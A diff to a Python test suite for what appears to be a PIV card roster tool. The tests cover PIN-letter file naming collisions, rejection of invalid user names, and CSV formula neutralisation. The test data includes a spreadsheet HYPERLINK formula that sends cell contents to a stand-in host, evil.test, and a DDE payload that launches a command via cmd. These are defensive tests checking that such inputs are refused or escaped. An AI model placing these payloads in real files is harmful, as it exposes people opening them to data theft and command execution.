@@ -154,10 +154,63 @@ def test_paths_defaults(tmp_path: Path) -> None:
 
 def test_pin_letter_roundtrip(tmp_path: Path) -> None:
     path = write_pin_letter(tmp_path, "a/b@contoso.com", 42, b"13572468")
-    assert path.name == "a_b@contoso.com.txt"
+    assert path.name == "a%2Fb@contoso.com.txt"
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
     assert read_pin_letter(tmp_path, "a/b@contoso.com") == b"13572468"
     assert read_pin_letter(tmp_path, "nobody@contoso.com") is None
+    # Plain UPNs keep their readable name (letters of earlier runs are still found).
+    assert write_pin_letter(tmp_path, "a.b-c_d@contoso.com", 1, b"1").name == \
+        "a.b-c_d@contoso.com.txt"
+
+
+def test_pin_letter_names_are_injective(tmp_path: Path) -> None:
+    """Issue 16: a+b@, a_b@ and a/b@ all became a_b@contoso.com.txt, jörg@/jürg@ both
+    j_rg@: one user's letter overwrote another's."""
+    from pivtool.workflows.roster import pin_letter_name
+
+    upns = ["a+b@contoso.com", "a_b@contoso.com", "a/b@contoso.com", "a%2Fb@contoso.com",
+            "jörg@contoso.com", "jürg@contoso.com", "a!b@contoso.com", "a#b@contoso.com"]
+    names = [pin_letter_name(u) for u in upns]
+    assert len(set(names)) == len(upns), names
+    assert all("/" not in n and n.isascii() for n in names)
+    for n, upn in enumerate(upns):
+        write_pin_letter(tmp_path, upn, n, str(10000000 + n).encode())
+    assert [read_pin_letter(tmp_path, u) for u in upns] == \
+        [str(10000000 + n).encode() for n in range(len(upns))]
+
+
+def test_roster_refuses_upns_no_directory_holds_and_letter_collisions() -> None:
+    rows = parse_roster(
+        "upn\n"
+        '"=HYPERLINK(""http://evil.test/?x=""&A1;""x"")@contoso.com"\n'
+        "+SUM(1+1)@contoso.com\n"
+        "jörg@contoso.com\n"
+        ".dot@contoso.com\n"
+        "o'brien.x_y-z!a#b^c~d@contoso.com\n"
+        "a+b@contoso.com\n")
+    errors = {r.upn: r.error for r in rows}
+    for bad in ('=HYPERLINK("http://evil.test/?x="&A1;"x")@contoso.com',
+                "+SUM(1+1)@contoso.com", "jörg@contoso.com", ".dot@contoso.com",
+                "a+b@contoso.com"):
+        assert errors[bad] and "not one a directory holds" in errors[bad], (bad, errors)
+    assert errors["o'brien.x_y-z!a#b^c~d@contoso.com"] is None
+
+
+def test_report_csv_neutralises_formulas(tmp_path: Path) -> None:
+    """A spreadsheet opening the report must not run anything from the roster or errors."""
+    import csv
+    import io
+
+    state = _state(tmp_path, 2)
+    (first, second) = state.users.values()
+    first["error"] = "=cmd|' /C calc'!A0"
+    second["error"] = "-2+3"
+    state.doc["invalid_rows"] = [{"row": 9, "upn": "@SUM(A1)@contoso.com",
+                                  "error": "\t=1+1"}]
+    cells = [c for row in csv.reader(io.StringIO(report_csv(state))) for c in row]
+    assert "'=cmd|' /C calc'!A0" in cells and "'-2+3" in cells
+    assert "'@SUM(A1)@contoso.com" in cells and "'\t=1+1" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
 def test_atomic_write_mode(tmp_path: Path) -> None:
